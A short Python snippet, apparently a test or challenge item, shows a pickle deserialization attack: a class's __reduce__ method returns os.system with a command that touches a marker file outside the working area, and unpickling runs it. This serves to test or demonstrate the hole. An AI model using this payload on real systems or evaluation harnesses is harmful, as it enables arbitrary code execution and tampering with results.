"""A value whose pickling leads to code, where values travel as pickles.

class: pickles
wins: marker
"""
# %%
import os, pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch __OUTSIDE__/value",))
answer = Bomb()
pickle.loads(pickle.dumps(answer))
